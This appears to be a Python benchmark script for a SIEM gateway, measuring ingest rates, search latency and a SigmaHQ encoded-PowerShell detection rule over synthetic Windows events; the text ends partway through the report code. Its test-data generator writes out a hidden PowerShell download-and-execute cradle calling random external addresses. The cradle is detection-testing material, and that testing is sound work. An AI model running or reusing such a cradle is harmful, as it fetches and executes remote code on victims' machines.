"""SIEM at scale: ingest through the API against raw chDB inserts, search and a Sigma rule over
millions of events, and the memory and disk it takes.

The gateway runs in its own process on a fresh data directory, its log store the embedded chDB
(one data path per process). The events are the real Windows events of the shared
``evtx_to_mitre_attack`` corpus (Security, Sysmon and PowerShell logs), multiplied into
``--events`` of them: spread in time order over 30 days (so a batch, like a shipper's, covers a
short stretch of time), across 500 hosts (a few busy servers, many quiet workstations), 2,000
users, fresh process ids, record numbers and client addresses; one process creation in 2,000 is
an encoded PowerShell command line, which the Sigma rule below must find. Without the corpus,
synthetic Sysmon-like events stand in (the report says so).

1. Ingest, in alternating rounds on the same batches (``--batch`` events of NDJSON each):

   - api: ``POST /api/v1/siem/logs/ingest`` of the NDJSON body, ``--concurrency`` batches in
     flight; the gateway authenticates, parses, inserts (durably) and answers;
   - raw: a child process with its own chDB path and the same table (``create_table_sql``)
     regenerates the same batches, parses them with the same parser and builds the rows with the
     store's own row builder (not counted in its rate), then times ``client.insert`` of each
     batch alone, one at a time, sending the columns as the store does (LowCardinality as plain
     strings: the fastest public insert of the rows, faster than the table's own types). That is
     the floor: what clickhouse-connect and the engine take to store the rows, durably too (the
     table fsyncs each insert). Parsing and row building are timed apart, so the report shows
     where the API's time goes.

   Reported beside the rates: the CPU the gateway process and its parse workers used per event
   during the api rounds, and how many of the machine's cores were busy then (Linux ``/proc``),
   which says whether the api side is bound by the CPUs or waits somewhere.

   Target: api at least 80% of raw events/s (median of rounds), and 30k events/s.
2. The rest of ``--events`` is loaded through the API the same way (its rate is reported).
3. Search, once the store is at rest (no background merge running and the part count steady;
   the wait and the parts are reported): a mix of analyst queries (host over a day, a process
   name over a week, full-text phrases, a wildcard on an original field, a CIDR, an
   oldest-first listing over the whole month), each ``--repeats`` times at its own random
   window, through ``GET /api/v1/siem/logs``.
   Reported: end-to-end p50 and p99 (HTTP included) per query and overall, and the store's own
   ``took_ms``. Target: overall p99 under 100 ms.
4. A SigmaHQ process-creation rule (encoded PowerShell command line) created through the API and
   run in preview over the whole month, ``--rule-runs`` times: the run's ``duration_ms`` and the
   request's wall time, medians. Target: under 1 s.
5. Memory: the peak RSS of the gateway, the raw child and this client (Linux ``VmHWM``), and the
   size of the gateway's chDB data on disk.

``--only ingest`` measures step 1 alone (``--events`` then need only cover its batches:
``--events 200000 --rounds 3 --round-batches 4`` takes well under a minute). A round of a few
bodies is mostly its start and end: its first bodies are parsed together and then wait for each
other's insert, and its last insert runs with the workers idle. Rounds of 8 (the default) measure
sustained ingest: ``--events 500000 --rounds 5 --round-batches 8``, about two minutes.

Only loopback addresses are used; the child processes end with it (also on Ctrl-C). Loading
goes through the API only (the gateway's chDB cannot be opened from another process): on two
cores, 5M events take 10 to 25 minutes; ``--events 500000`` is a quick run.

    .venv/bin/python benchmarks/siem.py [--events 5000000] [--batch 10000] [--rounds 5]
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import contextlib
import json
import multiprocessing
import os
import random
import statistics
import sys
import tempfile
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass
from datetime import UTC, datetime, timedelta
from multiprocessing.connection import Connection
from pathlib import Path
from typing import Any, Final

import orjson
from aiohttp import ClientSession, ClientTimeout, TCPConnector

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from benchmarks.common import (
    ADMIN_PASSWORD,
    HOST,
    cpu_seconds,
    free_port,
    gateway_settings,
    login,
    percentile,
    prepare,
    run_gateway,
    shared_data,
    wait_message,
)
from core.logstore.schema import FORCED_MERGE_AGE, create_table_sql
from core.logstore.store import COLUMNS, INSERT_SETTINGS, TABLE, WIRE_TYPES, event_row
from core.settings import Settings
from gateway.siem.parsing import auto_workers
from tools.logs import native, parse_payload

SOURCE: Final = "bench-windows"
NDJSON: Final = "application/x-ndjson"
DATABASE: Final = "aurora"
DAYS: Final = 30
HOSTS: Final = 500
USERS: Final = 2000
ENCODED_EVERY: Final = 2000
"""One process creation in this many is an encoded PowerShell command line."""
CORPUS: Final = shared_data() / "logs/evtx_to_mitre_attack/jsonl"
"""The shared data (``$AURORA_SHARED_DATA``, else next to the repository), read in place."""
TARGET_INGEST_RATIO: Final = 0.8
TARGET_INGEST_EPS: Final = 30_000
TARGET_SEARCH_P99_MS: Final = 50.0
TARGET_RULE_MS: Final = 1000.0

SIGMA_RULE: Final = r"""
title: Suspicious Encoded PowerShell Command Line
id: ca2092a1-c273-4878-9b4b-0d60115bf5ea
status: test
description: Detects suspicious powershell process starts with base64 encoded commands (e.g. Emotet)
references:
    - https://app.any.run/tasks/6217d77d-3189-4db2-a957-8ab239f3e01e
author: Florian Roth (Nextron Systems), Markus Neis, Jonhnathan Ribeiro, Daniil Yugoslavskiy
date: 2018-09-03
tags:
    - attack.execution
    - attack.t1059.001
logsource:
    category: process_creation
    product: windows
detection:
    selection_img:
        - Image|endswith: '\powershell.exe'
        - OriginalFileName: 'PowerShell.EXE'
    selection_cli_enc:
        CommandLine|contains: ' -e'
    selection_cli_content:
        CommandLine|contains:
            - ' JAB'
            - ' SUVYI'
            - ' SQBFAFgA'
            - ' aQBlAHgA'
            - ' aWV4I'
            - ' IAA'
            - ' IAB'
            - ' UwB'
            - ' cwB'
    selection_standalone:
        CommandLine|contains:
            - '.exe -ENCOD '
            - ' BA^J e-'
    filter_optional_remote_signed:
        CommandLine|contains: ' -ExecutionPolicy remotesigned '
    condition: selection_img and (all of selection_cli_* or selection_standalone)
        and not 1 of filter_optional_*
falsepositives:
    - Unknown
level: high
"""
"""SigmaHQ's ``proc_creation_win_powershell_base64_encoded_cmd`` (its title and id), without
its ``pwsh`` alternatives: an ``Image`` or ``OriginalFileName`` test and thirteen substrings of the
command line, ``OriginalFileName`` read from the original fields."""


# -- events -----------------------------------------------------------------------------------


def synthetic_templates() -> list[dict[str, Any]]:
    """Sysmon-like events, for when the shared corpus is absent."""
    base = {"Channel": "Microsoft-Windows-Sysmon/Operational", "Provider_Name": "Sysmon"}
    return [
        {
            **base,
            "EventID": 1,
            "Image": r"C:\Windows\System32\cmd.exe",
            "CommandLine": "cmd.exe /c whoami /all",
            "ParentImage": r"C:\Windows\explorer.exe",
            "ProcessId": 4242,
            "User": "CORP\\alice",
        },
        {
            **base,
            "EventID": 3,
            "Image": r"C:\Windows\System32\svchost.exe",
            "SourceIp": "10.1.2.3",
            "SourcePort": 50123,
            "DestinationIp": "93.184.216.34",
            "DestinationPort": 443,
            "Protocol": "tcp",
            "ProcessId": 1044,
        },
        {
            **base,
            "EventID": 11,
            "Image": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "TargetFilename": r"C:\Users\alice\AppData\Local\Temp\a.ps1",
            "ProcessId": 5120,
        },
        {
            **base,
            "EventID": 13,
            "Image": r"C:\Windows\regedit.exe",
            "TargetObject": r"HKLM\Software\Microsoft\Windows\CurrentVersion\Run\updater",
            "Details": r"C:\Users\Public\updater.exe",
            "ProcessId": 6000,
        },
        {
            **base,
            "EventID": 22,
            "Image": r"C:\Program Files\Mozilla Firefox\firefox.exe",
            "QueryName": "update.example.org",
            "ProcessId": 7000,
        },
    ]


def load_templates(directory: Path) -> tuple[list[dict[str, Any]], str]:
    """The corpus's events (every ``*.jsonl`` under ``directory``), or synthetic ones."""
    templates: list[dict[str, Any]] = []
    for path in sorted(directory.rglob("*.jsonl")) if directory.is_dir() else []:
        for line in path.read_bytes().splitlines():
            if line.strip():
                event = orjson.loads(line)
                if isinstance(event, dict):
                    templates.append(event)
    if templates:
        return templates, f"{len(templates)} real Windows events ({directory.name})"
    return synthetic_templates(), "SYNTHETIC Sysmon-like events (the shared corpus is absent)"


def host_name(n: int) -> str:
    return f"srv{n:03d}.corp.example.com" if n < 40 else f"ws{n:04d}.corp.example.com"


def encoded_command(rng: random.Random) -> str:
    address = f"185.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{address}/a.ps1')"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    return f"powershell.exe -nop -w hidden -enc {encoded}"


@dataclass(frozen=True, slots=True)
class Corpus:
    """Deterministic batches of NDJSON: batch ``k`` is the same bytes in every process."""

    templates: list[dict[str, Any]]
    total: int
    batch: int
    start: datetime

    @property
    def end(self) -> datetime:
        return self.start + timedelta(days=DAYS)

    @property
    def batches(self) -> int:
        return -(-self.total // self.batch)

    def make(self, k: int) -> tuple[bytes, int]:
        """Batch ``k``'s body and how many encoded PowerShell starts it holds."""
        rng = random.Random(k)
        span = DAYS * 86_400.0
        first = k * self.batch
        lines: list[bytes] = []
        encoded = 0
        for i in range(first, min(first + self.batch, self.total)):
            event = dict(rng.choice(self.templates))
            at = self.start + timedelta(seconds=span * (i + rng.random()) / self.total)
            event["TimeCreated"] = at.isoformat(timespec="microseconds").replace("+00:00", "Z")
            if "UtcTime" in event:
                event["UtcTime"] = at.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]
            event["Computer"] = host_name(min(int(rng.expovariate(1 / 80)), HOSTS - 1))
            event["EventRecordID"] = i
            user = f"user{min(int(rng.expovariate(1 / 300)), USERS - 1):04d}"
            for key in ("SubjectUserName", "TargetUserName"):
                value = event.get(key)
                if isinstance(value, str) and value not in {"-", ""} and not value.endswith("$"):
                    event[key] = user
            for key in ("NewProcessId", "ProcessId", "ParentProcessId"):
                value = event.get(key)
                pid = rng.randrange(4, 65_536, 4)
                if isinstance(value, str) and value.startswith("0x"):
                    event[key] = hex(pid)
                elif isinstance(value, int):
                    event[key] = pid
            if event.get("IpAddress") not in {None, "-", "::1", "127.0.0.1"}:
                event["IpAddress"] = (
                    f"10.{rng.randrange(8)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
                )
            if str(event.get("EventID")) in {"1", "4688"} and rng.randrange(ENCODED_EVERY) == 0:
                image = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
                event["NewProcessName" if "NewProcessName" in event else "Image"] = image
                event["CommandLine"] = encoded_command(rng)
                encoded += 1
            lines.append(orjson.dumps(event))
        return b"\n".join(lines) + b"\n", encoded


# -- processes --------------------------------------------------------------------------------


def child_pids(pid: int) -> list[int]:
    """The children of process ``pid`` (Linux); none elsewhere."""
    try:
        tasks = Path(f"/proc/{pid}/task").iterdir()
        return [int(c) for t in tasks for c in (t / "children").read_text().split()]
    except OSError:
        return []


def peak_rss_mib(pid: int | str = "self") -> float:
    """A process's peak resident set (Linux ``VmHWM``), in MiB; -1 elsewhere."""
    with contextlib.suppress(OSError):
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("VmHWM:"):
                return round(int(line.split()[1]) / 1024, 1)
    return -1.0


def disk_mib(path: Path) -> float:
    total = 0
    for root, _dirs, files in os.walk(path):
        for name in files:
            with contextlib.suppress(OSError):
                total += (Path(root) / name).lstat().st_size
    return round(total / 2**20, 1)


def run_raw(conn: Connection, path: Path, corpus: Corpus) -> None:
    """The raw side: its own chDB on ``path`` and the store's table; for each ``(first,
    count)`` it gets, it times parse, rows and ``client.insert`` of those batches apart and
    answers the seconds of each; ``None`` ends it (answering its peak RSS)."""
    import clickhouse_connect

    path.mkdir(parents=True, exist_ok=True)
    client = clickhouse_connect.get_client(interface="chdb", path=str(path))
    client.command(f"CREATE DATABASE IF NOT EXISTS `{DATABASE}`")
    client.command(create_table_sql(DATABASE, TABLE, retention_days=90))
    conn.send("ready")
    while (job := conn.recv()) is not None:
        first, count = job
        timings = {"events": 0, "parse": 0.0, "rows": 0.0, "insert": 0.0}
        for k in range(first, first + count):
            body, _ = corpus.make(k)
            started = time.perf_counter()
            parsed = parse_payload(body, content_type=NDJSON, source=SOURCE, format=None)
            parsed_at = time.perf_counter()
            now = datetime.now(UTC)
            rows = [event_row(event, uuid.uuid4(), now) for event in parsed.events]
            built_at = time.perf_counter()
            client.insert(
                TABLE,
                rows,
                column_names=list(COLUMNS),
                column_type_names=list(WIRE_TYPES),
                database=DATABASE,
                settings=INSERT_SETTINGS,
            )
            inserted_at = time.perf_counter()
            timings["events"] += len(rows)
            timings["parse"] += parsed_at - started
            timings["rows"] += built_at - parsed_at
            timings["insert"] += inserted_at - built_at
        conn.send(timings)
    conn.send(peak_rss_mib())


# -- measuring --------------------------------------------------------------------------------


@dataclass
class IngestRound:
    events: int
    api_seconds: float
    api_eps: float
    raw_insert_eps: float
    """``client.insert`` alone, rows built beforehand."""
    raw_parse_eps: float
    """The same parser the gateway runs, alone."""
    raw_rows_eps: float
    raw_serial_eps: float
    """Parse, rows and insert one after another: the gateway's work without HTTP or auth."""
    ratio: float
    """api / raw insert."""
    api_gateway_cpu_us: float
    api_workers_cpu_us: float
    """CPU the gateway process and its parse workers used during the api round, per event
    (microseconds; -1 where ``/proc`` is not there)."""
    api_cores_busy: float
    """How many of the machine's cores were busy during the api round, on average (every
    process; -1 where ``/proc/stat`` is not there)."""


class Gateway:
    """An authenticated client of the gateway under test."""

    def __init__(
        self, session: ClientSession, base: str, token: str, *, source: str = SOURCE
    ) -> None:
        self.session = session
        self.base = base
        self.headers = {"Authorization": f"Bearer {token}"}
        self.source = source
        """The ``source`` its ingested events are stored under."""

    async def ingest(self, body: bytes) -> int:
        async with self.session.post(
            f"{self.base}/api/v1/siem/logs/ingest",
            data=body,
            params={"source": self.source},
            headers={**self.headers, "Content-Type": NDJSON},
        ) as response:
            result = await response.json()
            if response.status != 200 or result.get("rejected"):
                raise RuntimeError(f"ingest answered {response.status}: {str(result)[:500]}")
            return int(result["accepted"])

    async def get(self, path: str, params: dict[str, str]) -> Any:
        async with self.session.get(
            f"{self.base}{path}", params=params, headers=self.headers
        ) as response:
            result = await response.json()
            if response.status != 200:
                raise RuntimeError(f"GET {path} answered {response.status}: {result}")
            return result

    async def post(self, path: str, body: dict[str, Any], status: int = 200) -> Any:
        async with self.session.post(
            f"{self.base}{path}", json=body, headers=self.headers
        ) as response:
            result = await response.json()
            if response.status != status:
                raise RuntimeError(f"POST {path} answered {response.status}: {result}")
            return result


async def post_batches(
    gateway: Gateway, bodies: Iterator[bytes], concurrency: int
) -> tuple[int, float]:
    """POST every body, ``concurrency`` in flight; events stored and seconds taken."""
    accepted = 0

    async def worker() -> None:
        nonlocal accepted
        for body in bodies:  # shared: each body goes to one worker
            stored = await gateway.ingest(body)
            accepted += stored  # after the await: ``+= await`` would read a stale total

    started = time.perf_counter()
    await asyncio.gather(*(worker() for _ in range(concurrency)))
    return accepted, time.perf_counter() - started


async def raw_batches(raw: Connection, first: int, count: int) -> dict[str, float]:
    """Have the raw side store batches ``first..first+count``; its timings."""
    raw.send((first, count))
    timings: dict[str, float] = await asyncio.to_thread(raw.recv)
    return timings


def _busy_and_total() -> tuple[float, float] | None:
    """Busy and total CPU time of the whole machine so far, in ticks (Linux)."""
    try:
        with open("/proc/stat") as handle:
            ticks = [int(t) for t in handle.readline().split()[1:]]
    except (OSError, ValueError):
        return None
    idle = ticks[3] + ticks[4]  # idle and waiting for I/O
    return sum(ticks) - idle, sum(ticks)


@dataclass
class CpuUse:
    """CPU the gateway process tree and the machine used over a stretch of time."""

    gateway: float
    workers: float
    busy: float
    """Cores busy on average (every process)."""


class CpuMeter:
    """Measures the CPU of ``pid`` (the gateway), of its children (the parse workers) and of
    the machine between :meth:`start` and :meth:`stop`."""

    def __init__(self, pid: int) -> None:
        self.pid = pid
        self._start: tuple[float | None, float | None, tuple[float, float] | None] = (
            None,
            None,
            None,
        )

    def _now(self) -> tuple[float | None, float | None, tuple[float, float] | None]:
        workers = [cpu_seconds(child) for child in child_pids(self.pid)]
        total = None if None in workers else sum(w for w in workers if w is not None)
        return cpu_seconds(self.pid), total, _busy_and_total()

    def start(self) -> None:
        self._start = self._now()

    def stop(self) -> CpuUse:
        gateway, workers, machine = self._now()
        gateway0, workers0, machine0 = self._start
        cores = os.cpu_count() or 1
        return CpuUse(
            gateway=-1.0 if gateway is None or gateway0 is None else gateway - gateway0,
            workers=-1.0 if workers is None or workers0 is None else workers - workers0,
            busy=(
                -1.0
                if machine is None or machine0 is None or machine[1] == machine0[1]
                else cores * (machine[0] - machine0[0]) / (machine[1] - machine0[1])
            ),
        )


async def ingest_rounds(
    args: argparse.Namespace,
    gateway: Gateway,
    corpus: Corpus,
    raw: Connection,
    meter: CpuMeter,
) -> tuple[list[IngestRound], int, int]:
    """Alternate api and raw over the same batches; rounds, batches used, encoded events."""
    rounds: list[IngestRound] = []
    encoded = 0
    next_batch = 0
    per_round = min(args.round_batches, max(1, corpus.batches // (args.rounds + 1)))
    # A warm-up batch on each side: the first insert opens the table's files.
    warm, found = corpus.make(next_batch)
    encoded += found
    await gateway.ingest(warm)
    await raw_batches(raw, next_batch, 1)
    next_batch += 1
    for index in range(args.rounds):
        if next_batch + per_round > corpus.batches:
            break
        made = [corpus.make(k) for k in range(next_batch, next_batch + per_round)]
        bodies = [body for body, _ in made]
        encoded += sum(found for _, found in made)
        # Alternate which side goes first, so neither always follows the other.
        if index % 2 == 0:
            meter.start()
            accepted, seconds = await post_batches(gateway, iter(bodies), args.concurrency)
            used = meter.stop()
            timings = await raw_batches(raw, next_batch, per_round)
        else:
            timings = await raw_batches(raw, next_batch, per_round)
            meter.start()
            accepted, seconds = await post_batches(gateway, iter(bodies), args.concurrency)
            used = meter.stop()
        del bodies, made
        next_batch += per_round
        count = int(timings["events"])
        if accepted != count:
            raise RuntimeError(f"the api stored {accepted} events, the raw side {count}")
        current = IngestRound(
            events=count,
            api_seconds=round(seconds, 3),
            api_eps=round(count / seconds),
            raw_insert_eps=round(count / timings["insert"]),
            raw_parse_eps=round(count / timings["parse"]),
            raw_rows_eps=round(count / timings["rows"]),
            raw_serial_eps=round(count / (timings["parse"] + timings["rows"] + timings["insert"])),
            ratio=round(timings["insert"] / seconds, 3),
            api_gateway_cpu_us=round(used.gateway / count * 1e6, 1) if used.gateway >= 0 else -1,
            api_workers_cpu_us=round(used.workers / count * 1e6, 1) if used.workers >= 0 else -1,
            api_cores_busy=round(used.busy, 2),
        )
        rounds.append(current)
        print(
            f"ingest round {index + 1}: api {current.api_eps:,} ev/s, raw insert "
            f"{current.raw_insert_eps:,} ev/s (ratio {current.ratio:.2f}); raw parse "
            f"{current.raw_parse_eps:,} ev/s; api CPU per event: gateway "
            f"{current.api_gateway_cpu_us:.0f} us, workers {current.api_workers_cpu_us:.0f} us, "
            f"{current.api_cores_busy:.2f} cores busy",
            file=sys.stderr,
        )
    return rounds, next_batch, encoded


async def bulk_load(
    args: argparse.Namespace, gateway: Gateway, corpus: Corpus, first: int
) -> dict[str, Any]:
    """Load batches ``first..`` through the API, generating each as it is needed."""
    encoded = 0
    done = 0
    started = time.perf_counter()
    last_note = started

    def bodies() -> Iterator[bytes]:
        nonlocal encoded, done, last_note
        for k in range(first, corpus.batches):
            body, found = corpus.make(k)
            encoded += found
            done += 1
            now = time.perf_counter()
            if now - last_note > 30:
                last_note = now
                loaded = (first + done) * corpus.batch
                print(
                    f"loading: {min(loaded, corpus.total):,} of {corpus.total:,} events, "
                    f"{now - started:.0f} s",
                    file=sys.stderr,
                )
            yield body

    accepted, seconds = await post_batches(gateway, bodies(), args.concurrency)
    return {
        "events": accepted,
        "seconds": round(seconds, 1),
        "eps": round(accepted / seconds) if seconds > 0 else 0,
        "encoded": encoded,
        "note": "includes this client generating the batches, on the same CPUs",
    }


async def settle(args: argparse.Namespace, gateway: Gateway, corpus: Corpus) -> dict[str, Any]:
    """Wait until the store is at rest: its partitions past the age at which the store merges
    each whole (:data:`FORCED_MERGE_AGE` after the load), no merge running and the part count
    unchanged over two polls 5 s apart (at most ``--settle-timeout`` seconds). ClickHouse
    merges a freshly loaded table's small parts in the background for a while; searches are
    measured on the store as it stands once the load is over, not against merges for the two
    shared cores."""
    started = time.perf_counter()
    forced = started + FORCED_MERGE_AGE + 10  # the merges start within a few seconds of it
    window = {"start": iso(corpus.start), "end": iso(corpus.end)}
    first = (await gateway.get("/api/v1/siem/stats", window))["storage"]
    last_parts, calm = first["parts"], 0
    storage = first
    while (calm < 2 or time.perf_counter() < forced) and (
        time.perf_counter() - started < args.settle_timeout
    ):
        await asyncio.sleep(5)
        storage = (await gateway.get("/api/v1/siem/stats", window))["storage"]
        calm = calm + 1 if storage["merges_running"] == 0 and storage["parts"] == last_parts else 0
        last_parts = storage["parts"]
    waited = round(time.perf_counter() - started, 1)
    print(f"settled in {waited} s: {first['parts']} -> {storage['parts']} parts", file=sys.stderr)
    return {
        "seconds": waited,
        "parts_after_load": first["parts"],
        "parts": storage["parts"],
        "settled": calm >= 2 and time.perf_counter() >= forced,
    }


def iso(at: datetime) -> str:
    return at.isoformat(timespec="milliseconds").replace("+00:00", "Z")


type Params = Callable[[random.Random, Corpus], dict[str, str]]


def windowed(hours: float, extra: dict[str, str]) -> Params:
    """Query parameters over a random window of ``hours`` inside the data's month."""

    def params(rng: random.Random, corpus: Corpus) -> dict[str, str]:
        span = timedelta(hours=hours)
        slack = max(0.0, (corpus.end - corpus.start - span).total_seconds())
        start = corpus.start + timedelta(seconds=rng.uniform(0, slack))
        return {"start": iso(start), "end": iso(start + span), "limit": "100", **extra}

    return params


def host_day(rng: random.Random, corpus: Corpus) -> dict[str, str]:
    params = windowed(24, {})(rng, corpus)
    params["host"] = host_name(min(int(rng.expovariate(1 / 80)), HOSTS - 1))
    return params


QUERIES: Final[dict[str, Params]] = {
    "host, 1 day": host_day,
    "process.name, 7 days": windowed(7 * 24, {"q": "process.name:powershell.exe"}),
    "full text, 1 day": windowed(24, {"q": '"DownloadString"'}),
    "full text, 30 days": windowed(DAYS * 24, {"q": '"lsass"'}),
    "Image wildcard, 1 day": windowed(24, {"q": "Image:*\\\\powershell.exe"}),
    "CIDR + code, 7 days": windowed(
        7 * 24, {"q": "source.ip:10.0.0.0/8 AND event.code:(4624 OR 4769)"}
    ),
    "oldest first, 30 days": windowed(
        DAYS * 24, {"q": "event.code:4688 AND NOT user.name:user0000", "sort": "timestamp"}
    ),
}
"""Analyst searches: name → parameters of ``GET /api/v1/siem/logs``."""


async def search(args: argparse.Namespace, gateway: Gateway, corpus: Corpus) -> dict[str, Any]:
    rng = random.Random(7)
    for make in QUERIES.values():  # warm: the first run of each loads its columns' marks
        await gateway.get("/api/v1/siem/logs", make(rng, corpus))
    wall: dict[str, list[float]] = {name: [] for name in QUERIES}
    took: dict[str, list[float]] = {name: [] for name in QUERIES}
    hits: dict[str, list[int]] = {name: [] for name in QUERIES}
    for _ in range(args.repeats):
        # Round-robin over the queries, so that none runs on its own just-warmed data.
        for name, make in QUERIES.items():
            params = make(rng, corpus)
            started = time.perf_counter()
            page = await gateway.get("/api/v1/siem/logs", params)
            wall[name].append((time.perf_counter() - started) * 1000)
            took[name].append(float(page["took_ms"]))
            hits[name].append(len(page["items"]))

    def summary(values: list[float]) -> dict[str, float]:
        ordered = sorted(values)
        return {
            "p50_ms": round(percentile(ordered, 0.5), 1),
            "p99_ms": round(percentile(ordered, 0.99), 1),
        }

    per_query = {
        name: {
            **summary(wall[name]),
            "took": summary(took[name]),
            "items_median": statistics.median(hits[name]),
        }
        for name in QUERIES
    }
    return {
        "repeats": args.repeats,
        "queries": per_query,
        "overall": summary([v for values in wall.values() for v in values]),
        "overall_took": summary([v for values in took.values() for v in values]),
    }


async def sigma(args: argparse.Namespace, gateway: Gateway, corpus: Corpus) -> dict[str, Any]:
    rule = await gateway.post("/api/v1/detections/rules", {"sigma": SIGMA_RULE}, status=201)
    body = {
        "start": iso(corpus.start - timedelta(minutes=1)),
        "end": iso(corpus.end + timedelta(minutes=1)),
        "mode": "preview",
    }
    runs: list[dict[str, Any]] = []
    for _ in range(args.rule_runs + 1):  # the first warms, as a scheduler's first run would
        started = time.perf_counter()
        result = await gateway.post(f"/api/v1/detections/rules/{rule['id']}/run", body)
        wall = (time.perf_counter() - started) * 1000
        if result["status"] != "succeeded":
            raise RuntimeError(f"the rule's run {result['status']}: {result.get('error')}")
        runs.append({"duration_ms": result["duration_ms"], "wall_ms": round(wall, 1)})
    first, measured = runs[0], runs[1:]
    return {
        "rule": rule.get("title"),
        "matches": result["matches"],
        "first_run": first,
        "runs": measured,
        "duration_ms_median": round(statistics.median(r["duration_ms"] for r in measured), 1),
        "wall_ms_median": round(statistics.median(r["wall_ms"] for r in measured), 1),
    }


def ingest_summary(
    args: argparse.Namespace, settings: Settings, corpus: Corpus, rounds: list[IngestRound]
) -> dict[str, Any]:
    """The ingest rounds and their medians."""
    ratios = [r.ratio for r in rounds]
    return {
        "batch": corpus.batch,
        "concurrency": args.concurrency,
        "ingest_workers": (
            auto_workers() if settings.ingest_workers is None else settings.ingest_workers
        ),
        "rounds": [asdict(r) for r in rounds],
        **{
            key: round(statistics.median(getattr(r, key) for r in rounds))
            for key in (
                "api_eps",
                "raw_insert_eps",
                "raw_parse_eps",
                "raw_rows_eps",
                "raw_serial_eps",
            )
        },
        "ratio": round(statistics.median(ratios), 3) if ratios else float("nan"),
        **{
            key: statistics.median(getattr(r, key) for r in rounds)
            for key in ("api_gateway_cpu_us", "api_workers_cpu_us", "api_cores_busy")
        },
    }


async def measure(
    args: argparse.Namespace,
    settings: Settings,
    corpus: Corpus,
    gateway_process: multiprocessing.process.BaseProcess,
    raw: Connection,
    raw_process: multiprocessing.process.BaseProcess,
) -> dict[str, Any]:
    base = f"http://{HOST}:{settings.port}"
    timeout = ClientTimeout(total=600)
    async with ClientSession(
        connector=TCPConnector(limit=args.concurrency + 2), timeout=timeout
    ) as session:
        token = await login(
            session, base, settings.admin_username, ADMIN_PASSWORD, gateway_process.is_alive
        )
        gateway = Gateway(session, base, token)
        if await asyncio.to_thread(wait_message, raw, raw_process) != "ready":
            raise RuntimeError("the raw side did not start")
        meter = CpuMeter(gateway_process.pid or 0)
        rounds, used, encoded = await ingest_rounds(args, gateway, corpus, raw, meter)
        if args.only == "ingest":
            return {"ingest": ingest_summary(args, settings, corpus, rounds)}
        load = await bulk_load(args, gateway, corpus, used)
        encoded += load["encoded"]
        settled = await settle(args, gateway, corpus)
        stats = await gateway.get(
            "/api/v1/siem/stats", {"start": iso(corpus.start), "end": iso(corpus.end)}
        )
        print(f"loaded {stats['events_total']:,} events; searching", file=sys.stderr)
        searched = await search(args, gateway, corpus)
        rule = await sigma(args, gateway, corpus)
    return {
        "ingest": ingest_summary(args, settings, corpus, rounds),
        "load": load,
        "stored": stats["events_total"],
        "storage": stats["storage"],
        "settled": settled,
        "search": searched,
        "sigma": {**rule, "encoded_injected": encoded},
        "errors": 0,
    }


def print_report(report: dict[str, Any]) -> None:
    ingest, memory = report["ingest"], report["memory"]
    ingest_checks = (
        (
            f"ingest api/raw >= {TARGET_INGEST_RATIO:.0%}",
            ingest["ratio"] >= TARGET_INGEST_RATIO,
            f"{ingest['ratio']:.1%}",
        ),
        (
            f"ingest through the api >= {TARGET_INGEST_EPS:,} ev/s",
            ingest["api_eps"] >= TARGET_INGEST_EPS,
            f"{ingest['api_eps']:,} ev/s",
        ),
    )
    print(f"events: {report['events_requested']:,} ({report['corpus']}), over {DAYS} days")
    print(
        f"ingest, NDJSON batches of {ingest['batch']:,}, {ingest['concurrency']} in flight, "
        f"{ingest['ingest_workers']} parse workers, parser {report['parser']}, "
        f"medians of {len(ingest['rounds'])} rounds (events/s):"
    )
    print(f"  api (HTTP, auth, parse, insert)  {ingest['api_eps']:>10,}")
    print(f"  raw chDB client.insert           {ingest['raw_insert_eps']:>10,}")
    print(f"  raw parse alone (same parser)    {ingest['raw_parse_eps']:>10,}")
    print(f"  raw row building alone          {ingest['raw_rows_eps']:>10,}")
    print(f"  raw parse + rows + insert        {ingest['raw_serial_eps']:>10,}")
    print(f"  ratio api / raw insert           {ingest['ratio']:>10.3f}")
    print(
        f"  api CPU per event (us): gateway {ingest['api_gateway_cpu_us']:.0f}, parse workers "
        f"{ingest['api_workers_cpu_us']:.0f}; cores busy {ingest['api_cores_busy']:.2f} "
        f"of {os.cpu_count()}"
    )
    if "load" not in report:  # --only ingest
        print(
            f"peak RSS (MiB): gateway {memory['gateway_peak_rss_mib']}, raw side "
            f"{memory['raw_peak_rss_mib']}"
        )
        for label, ok, got in ingest_checks:
            print(f"{'PASS' if ok else 'FAIL'}  {label} (got {got})")
        return
    load, searched, rule = report["load"], report["search"], report["sigma"]
    print(
        f"bulk load through the api: {load['events']:,} events in {load['seconds']:.0f} s "
        f"({load['eps']:,} ev/s, the client generating them on the same CPUs)"
    )
    storage = report["storage"]
    print(
        f"stored: {report['stored']:,} events, {storage['parts']} parts, "
        f"{storage['bytes_on_disk'] / 2**20:.0f} MiB on disk "
        f"({storage['bytes_uncompressed'] / 2**20:.0f} MiB uncompressed)"
    )
    settled = report["settled"]
    print(
        f"after the load: {settled['parts_after_load']} parts; "
        f"{'settled' if settled['settled'] else 'NOT settled'} after {settled['seconds']:.0f} s "
        f"at {settled['parts']} parts (no merge running)"
    )
    print(f"search, {searched['repeats']} runs each (ms; took = the store's own time):")
    print(f"  {'':24}{'p50':>8}{'p99':>8}{'took p50':>10}{'took p99':>10}{'items':>7}")
    for name, row in searched["queries"].items():
        print(
            f"  {name:24}{row['p50_ms']:>8.1f}{row['p99_ms']:>8.1f}{row['took']['p50_ms']:>10.1f}"
            f"{row['took']['p99_ms']:>10.1f}{row['items_median']:>7.0f}"
        )
    overall, took = searched["overall"], searched["overall_took"]
    print(
        f"  {'all':24}{overall['p50_ms']:>8.1f}{overall['p99_ms']:>8.1f}"
        f"{took['p50_ms']:>10.1f}{took['p99_ms']:>10.1f}"
    )
    print(
        f"sigma rule {rule['rule']!r} over {DAYS} days in preview: duration_ms median "
        f"{rule['duration_ms_median']:.0f}, wall {rule['wall_ms_median']:.0f} ms "
